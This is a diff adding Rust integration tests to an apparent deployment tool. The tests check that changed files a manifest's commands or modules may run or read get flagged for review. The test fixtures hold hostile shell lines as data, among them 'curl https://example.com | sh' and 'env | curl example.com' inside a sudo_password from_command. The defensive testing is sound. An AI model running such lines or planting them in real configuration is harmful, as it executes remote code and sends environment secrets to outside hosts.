@@ -157,7 +157,142 @@ fn what_a_value_is_read_from_or_made_by_is_compared() {
         work.git(&["branch", "-q", "-f", "main"]);
         assert!(work.look(source).out.contains("no changes"), "{source}");
         work.put("values/a", "#!/bin/sh\ncurl https://example.com | sh\n");
-        shown(&work.attempt(source), source, "application.compose.variables.A.content");
+        shown(&work.attempt(source), source, "content of values/a");
+    }
+}
+
+/// A program may read and run whatever is in the repository, however its words name it.
+#[test]
+fn what_a_command_may_run_is_compared_or_named() {
+    for command in [
+        "sh, token.sh",
+        "make, -s, t",
+        "sh, -c, \". ./token.sh\"",
+        "sh, -c, \"cd tools; sh t.sh\"",
+        "sh, -c, \"tools/t.sh && true\"",
+        "env, --chdir=tools, sh, t.sh",
+        "./tools/t.sh",
+        "pass, show, x",
+    ] {
+        let work = Work::new();
+        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh", "app/page.html.tera"] {
+            work.put(file, "echo good\n");
+        }
+        work.put("app/.deployerignore", "/tools\n/page.html.tera\n");
+        work.put("deployment.yaml", &manifest("./app", &format!("{{ A: {{ from_command: [{command}] }} }}"), ""));
+        work.commit();
+        work.git(&["branch", "-q", "-f", "main"]);
+        assert!(work.look("nothing changed").out.contains("no changes"), "{command}");
+        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh", "app/page.html.tera"] {
+            work.put(file, "env | curl https://example.com\n");
+            let run = work.attempt(command);
+            if run.out.contains("content of") {
+                assert!(command.contains(file), "{command}: {}", run.out);
+            } else {
+                shown(&run, command, "command of web");
+                let told =
+                    format!("from_command of web: runs on this machine and may read {file} (changed, not compared)");
+                assert!(run.err.contains(&told), "{command}, {file}: {}", run.err);
+            }
+            work.git(&["reset", "-q", "--hard", "main"]);
+        }
+        // What the release sends is compared, and so is the manifest.
+        work.put("app/page.html", "hello again\n");
+        work.put("app/conf.txt.tera", "b={{ A }}\n");
+        let text = fs::read_to_string(work.repository().join("deployment.yaml")).expect("there");
+        work.put("deployment.yaml", &format!("{text}    keep_releases: 4\n"));
+        let run = work.attempt(command);
+        shown(&run, command, "page.html");
+        assert!(!run.err.contains("from_command of"), "{command}: {}", run.err);
+    }
+}
+
+#[test]
+fn what_a_module_may_read_outside_of_its_directory_is_named() {
+    let work = Work::new();
+    work.put("infra/main.tf", "module \"more\" { source = \"../shared\" }\n");
+    work.put("shared/main.tf", "# one\n");
+    let made = "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
+        ssh: { user: deploy, identity: { from_env: K } }\n";
+    let plain = "  plain:\n    provisioned: { lxd: { image: \"ubuntu:24.04\" } }\n    ssh: { user: deploy, identity: { from_env: K } }\n";
+    work.put("deployment.yaml", &format!("{made}{plain}"));
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    let run = work.look("nothing changed");
+    assert!(run.out.to_lowercase().contains("no changes"), "{}{}", run.out, run.err);
+    work.put("shared/main.tf", "# two\n");
+    let run = work.attempt("a file that the module names");
+    assert!(
+        run.out.contains("OpenTofu of web") && run.err.contains("may read shared/main.tf"),
+        "{}{}",
+        run.out,
+        run.err
+    );
+    // A machine without files of the repository.
+    assert!(run.out.contains("No changes in <code>plain</code>"), "{}", run.out);
+}
+
+#[test]
+fn a_key_that_git_tracks_is_compared() {
+    let work = Work::new();
+    work.put("key.enc", "one\n");
+    work.manifest("    ssh: { user: deploy, identity_file: ./key.enc }\n");
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    assert!(work.look("nothing changed").out.contains("no changes"));
+    for file in ["key.enc", "key.enc-cert.pub"] {
+        work.put(file, "two\n");
+        shown(&work.attempt("another key"), "another key", &format!("content of {file}"));
+        work.git(&["reset", "-q", "--hard", "main"]);
+    }
+    work.link("key.enc", "/etc/hostname");
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    work.link("key.enc", "/etc/machine-id");
+    shown(&work.attempt("a link to another key"), "a link to another key", "/etc/machine-id");
+}
+
+/// A file that is too large to be read is compared by its object, and by nothing that another file can hold.
+#[test]
+fn nothing_is_taken_for_a_large_file() {
+    let large = format!("#!/bin/sh\n{}", "#".repeat(8 << 20));
+    let work = Work::new();
+    work.put("app/start.sh", &large);
+    let id = work.git(&["hash-object", "app/start.sh"]);
+    work.put("app/start.sh", &format!("Git object {id} of {} bytes\n", large.len()));
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    work.put("app/start.sh", &large);
+    shown(&work.attempt("a large file"), "a large file", "start.sh");
+    work.git(&["branch", "-q", "-f", "main"]);
+    assert!(work.look("the same large file").out.contains("no changes"));
+    work.put("app/start.sh", &format!("{large}#"));
+    shown(&work.attempt("another large file"), "another large file", "start.sh");
+    // Nothing is decided by a file that was not read.
+    for name in ["app/.deployerignore", "app/compose.yaml", "app/x.tera", "app/.env"] {
+        work.git(&["checkout", "-q", "-f", "-B", "change", "main"]);
+        work.put(name, &large);
+        work.commit();
+        let run = work.look(name);
+        assert!(run.code == 64 && run.err.contains("UTF-8"), "{name}: {}{}", run.out, run.err);
+        shown(&run, name, "What failed");
+    }
+}
+
+/// What later runs of `apply` use shows also where the environment itself comes or goes.
+#[test]
+fn the_settings_of_an_environment_that_comes_or_goes_are_shown() {
+    let command = "    ssh: { user: deploy, sudo_password: { from_command: [sh, -c, \"env | curl example.com\"] } }\n";
+    for stage in ["destroyed", "created", "running"] {
+        let work = Work::new();
+        work.manifest(&format!("    stage: {stage}\n{command}"));
+        let run = work.attempt(stage);
+        shown(&run, stage, "curl example.com");
+        work.manifest(&format!("  new:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n{command}"));
+        let run = work.attempt(stage);
+        assert!(run.out.contains("curl example.com"), "{}{}", run.out, run.err);
+        // Only what the manifest says differs from what every new environment has.
+        assert!(!run.out.contains("configure.engine.minimum"), "{}", run.out);
     }
 }
 
